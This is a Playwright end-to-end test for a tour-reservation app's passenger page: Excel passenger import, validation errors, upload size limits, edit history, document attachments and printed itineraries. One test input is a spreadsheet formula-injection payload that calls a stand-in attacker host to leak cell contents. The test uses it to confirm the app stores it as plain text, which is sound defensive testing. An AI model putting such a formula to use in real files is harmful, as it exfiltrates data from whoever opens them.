import { mkdirSync } from 'node:fs';
import { expect, test, type Page } from '@playwright/test';
import * as XLSX from 'xlsx';
import { catalogValue, createTour, firstEntity, graphqlData, isoDay } from './pages/RatePages';
import { SignInPage } from './pages/SignInPage';

const SHOTS = 'tests/e2e/screenshots';
const FILES = 'test-results/reservation-passengers';

async function shot(page: Page, name: string) {
  await page.evaluate(() => window.scrollTo(0, 0));
  await page.screenshot({ path: `${SHOTS}/${name}.png`, fullPage: true });
}

const HEADERS = ['Passenger type', 'First name', 'Last name', 'Document type', 'Document number', 'Citizenship', 'Gender', 'Birth date'];

/** A real .xlsx file written to disk, as a person would pick it. */
function writeSheet(name: string, rows: unknown[][]) {
  mkdirSync(FILES, { recursive: true });
  const workbook = XLSX.utils.book_new();
  XLSX.utils.book_append_sheet(workbook, XLSX.utils.aoa_to_sheet([HEADERS, ...rows]), 'Passengers');
  const path = `${FILES}/${name}`;
  XLSX.writeFile(workbook, path);
  return path;
}

const tenPassengers = (stamp: string) => Array.from({ length: 10 }, (_, i) =>
  [i < 8 ? 'Adult' : 'CHD', `Traveller${i}`, `Quispe ${stamp}`, 'PASSPORT', `P${stamp}${i}`, 'Peru', i % 2 ? 'M' : 'F', `${1980 + i}-04-0${1 + (i % 9)}`]);

/** A confirmed-free reservation in Spanish for 12 passengers with one tour item, made through GraphQL. */
async function createReservation(page: Page, stamp: string) {
  const [customer, idCurrency, languages, tour] = await Promise.all([
    firstEntity(page, 'CUSTOMER'), catalogValue(page, 'CURRENCY', 'USD'),
    graphqlData<{ getLanguages: { idLanguage: string; code: string }[] }>(page, '{ getLanguages { idLanguage code } }'),
    createTour(page, stamp),
  ]);
  const idLanguage = languages.getLanguages.find((l) => l.code === 'spa')?.idLanguage;
  const { createReservation: reservation } = await graphqlData<{ createReservation: { idReservation: string; code: string } }>(page,
    'mutation ($data: ReservationInput!) { createReservation(data: $data) { idReservation code } }',
    { data: { reservationDate: isoDay(0), idEntity: customer.idEntity, passengerCount: 12, idCurrency, idLanguage } });
  await graphqlData(page,
    'mutation ($data: ReservationItemInput!) { addReservationItem(data: $data) { idReservationItem } }',
    { data: { idReservation: reservation.idReservation, idProductInstance: tour.idProductInstance, serviceDate: isoDay(40), quantity: 10, unitPrice: '95.00', overrideReason: 'Group price agreed by e-mail' } });
  return { ...reservation, tour };
}

test.describe('reservation passengers, documents and printing', () => {
  test('loads 10 passengers from Excel after a bad-row preview, reverts a change, attaches a document and prints', async ({ page }) => {
    const stamp = String(Date.now()).slice(-6);
    await new SignInPage(page, 'en').signInAs('ADMIN');
    const reservation = await createReservation(page, stamp);
    const base = `/en/reservations/${reservation.idReservation}`;

    await page.goto(`${base}/passengers`);
    await expect(page.getByRole('navigation', { name: 'Breadcrumbs' }).getByRole('listitem')).toHaveText(['Home', 'Reservations', 'Reservation', 'Passengers']);
    await expect(page.getByText('0 of 12 passengers registered')).toBeVisible();

    // A file with one bad row: the preview names it and nothing can be saved.
    const good = tenPassengers(stamp);
    await page.getByLabel('Passenger file').setInputFiles(writeSheet('bad.xlsx', [...good.slice(0, 9), ['Alien', '', 'Nobody', 'PASSPORT', 'X#1', 'Narnia', '', '2999-01-01']]));
    await expect(page.getByText('bad.xlsx: 10 rows, 1 with problems')).toBeVisible();
    const preview = page.getByRole('grid', { name: 'Passengers in the file' });
    await expect(preview.getByRole('row').filter({ hasText: 'Nobody' })).toContainText('Passenger type (A11): unknown value');
    await expect(preview.getByRole('row').filter({ hasText: 'Nobody' })).toContainText('Birth date (H11): in the future');
    await expect(page.getByRole('button', { name: 'Save 10 passengers' })).toBeDisabled();
    await shot(page, 'reservation-passengers-bad-preview-1280');
    await expect(page.getByText('0 of 12 passengers registered')).toBeVisible();

    // Too many for the room left: refused before sending.
    await page.getByLabel('Passenger file').setInputFiles(writeSheet('many.xlsx', [...good, ['Adult', 'Extra', 'One', 'PASSPORT', `E${stamp}1`, '', '', ''], ['Adult', 'Extra', 'Two', 'PASSPORT', `E${stamp}2`, '', '', ''], ['Adult', 'Extra', 'Three', 'PASSPORT', `E${stamp}3`, '', '', '']]));
    await expect(page.getByRole('alert').filter({ hasText: 'Max passenger number exceeded for reservation.' })).toBeVisible();
    await expect(page.getByRole('button', { name: 'Save 13 passengers' })).toBeDisabled();

    // The good file: all valid, saved all together.
    await page.getByLabel('Passenger file').setInputFiles(writeSheet('good.xlsx', good));
    await expect(page.getByText('good.xlsx: 10 rows, all valid')).toBeVisible();
    await page.getByRole('button', { name: 'Save 10 passengers' }).click();
    await expect(page.getByText('10 passengers loaded')).toBeVisible();
    await expect(page.getByText('10 of 12 passengers registered')).toBeVisible();
    const list = page.getByRole('grid', { name: 'Passengers', exact: true });
    await expect(list.getByRole('row')).toHaveCount(11);

    // A 5 MB junk file is refused on its size, before it is read; nothing changes.
    await page.getByLabel('Passenger file').setInputFiles({ name: 'junk.xlsx', mimeType: 'application/octet-stream', buffer: Buffer.alloc(5 * 1024 * 1024, 0x5a) });
    await expect(page.getByRole('alert').filter({ hasText: 'The file is larger than 2 MB.' })).toBeVisible();

    // A formula-injection cell is stored as the plain text it is, never evaluated.
    const injection = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
    await page.getByLabel('Passenger file').setInputFiles(writeSheet('formula.xlsx', [['Adult', injection, `Formula ${stamp}`, 'PASSPORT', `F${stamp}`, '', '', '']]));
    await expect(page.getByText('formula.xlsx: 1 row, all valid')).toBeVisible();
    await page.getByRole('button', { name: 'Save 1 passenger' }).click();
    await expect(page.getByText('11 of 12 passengers registered')).toBeVisible();
    await expect(list.getByRole('row').filter({ hasText: `Formula ${stamp}` })).toContainText(injection);
    await expect(list.getByRole('link')).toHaveCount(0);

    // Edit one passenger, then revert that change from its history.
    await page.getByRole('button', { name: 'Edit Traveller0 Quispe' }).click();
    await page.getByLabel('First name').fill('Renamed');
    await page.getByRole('button', { name: 'Save passenger' }).click();
    await expect(list.getByRole('row').filter({ hasText: 'Renamed' })).toBeVisible();
    await page.getByRole('button', { name: `History Renamed Quispe ${stamp}` }).click();
    const history = page.getByRole('dialog', { name: /History of Renamed/ });
    await expect(history).toContainText('Edited')
    await expect(history).toContainText('Changed: First name');
    await shot(page, 'reservation-passengers-history-1280');
    await history.getByRole('button', { name: 'Revert' }).first().click();
    await page.getByRole('alertdialog', { name: 'Revert this change?' }).getByRole('button', { name: 'Revert' }).click();
    await expect(page.getByText('Change reverted')).toBeVisible();
    await expect(list.getByRole('row').filter({ hasText: 'Traveller0' })).toBeVisible();
    await expect(list.getByRole('row').filter({ hasText: 'Renamed' })).toHaveCount(0);
    await shot(page, 'reservation-passengers-1280');

    await page.setViewportSize({ width: 760, height: 1000 });
    await page.goto(`${base}/passengers`);
    await expect(page.getByText('11 of 12 passengers registered')).toBeVisible();
    await shot(page, 'reservation-passengers-760');
    await page.setViewportSize({ width: 1280, height: 900 });
    await page.goto(`/es/reservations/${reservation.idReservation}/passengers`);
    await expect(page.getByText('11 de 12 pasajeros registrados')).toBeVisible();
    await shot(page, 'reservation-passengers-es-1280');

    // Documents: attach a text file, view it; a .docx cannot be displayed.
    await page.goto(`${base}/documents`);
    await page.getByLabel('File to attach').setInputFiles({ name: 'rooming-list.txt', mimeType: 'text/plain', buffer: Buffer.from('Room 101: Traveller0 and Traveller1\n') });
    await expect(page.getByText('rooming-list.txt attached')).toBeVisible();
    await page.getByRole('button', { name: 'View rooming-list.txt' }).click();
    const viewer = page.getByRole('dialog', { name: 'rooming-list.txt' });
    await expect(viewer).toContainText('Room 101: Traveller0 and Traveller1');
    await shot(page, 'reservation-documents-view-1280');
    await viewer.getByRole('button', { name: 'Close' }).first().click();
    // A .docx is kept but cannot be displayed: the viewer says so and offers the download.
    const zipBook = XLSX.utils.book_new();
    XLSX.utils.book_append_sheet(zipBook, XLSX.utils.aoa_to_sheet([['not really a docx, but a zip like one']]), 'S');
    const docx = XLSX.write(zipBook, { type: 'buffer', bookType: 'xlsx' }) as Buffer;
    await page.getByLabel('File to attach').setInputFiles({ name: 'contract.docx', mimeType: '', buffer: docx });
    await expect(page.getByText('contract.docx attached')).toBeVisible();
    await page.getByRole('button', { name: 'View contract.docx' }).click();
    const other = page.getByRole('dialog', { name: 'contract.docx' });
    await expect(other).toContainText('This file cannot be displayed');
    await expect(other.getByRole('button', { name: 'Download' })).toBeVisible();
    await other.getByRole('button', { name: 'Close' }).first().click();
    await page.getByLabel('File to attach').setInputFiles({ name: 'virus.exe', mimeType: 'application/octet-stream', buffer: Buffer.from('MZ') });
    await expect(page.getByText('Attach a PDF, PNG, JPEG, text, CSV, XLSX or DOCX file.')).toBeVisible();

    // The itinerary prints in the reservation's language (Spanish) with the active passengers only.
    await page.goto(`${base}/print/itinerary`);
    await expect(page.getByRole('heading', { name: 'Itinerario', level: 1 })).toBeVisible();
    await expect(page.getByText('Pasajeros (11 pasajeros)')).toBeVisible();
    await expect(page.getByText(reservation.tour.name)).toBeVisible();
    await shot(page, 'reservation-itinerary-print-1280');
    await page.emulateMedia({ media: 'print' });
    await expect(page.getByRole('button', { name: 'Print' })).toBeHidden();
    await expect(page.getByRole('heading', { name: 'Itinerario', level: 1 })).toBeVisible();
    await expect(page.getByRole('navigation', { name: 'Main navigation' })).toBeHidden();
    await shot(page, 'reservation-itinerary-paper');
    await page.emulateMedia({ media: 'screen' });
    await page.goto(`${base}/print/vouchers`);
    await expect(page.getByRole('heading', { name: /Voucher de servicio/, level: 1 })).toHaveCount(1);
    // A quote gets no voucher (the PDF's rule too).
    await expect(page.getByText('No hay servicios confirmados', { exact: false })).toBeVisible();
    await shot(page, 'reservation-vouchers-print-1280');
  });
});
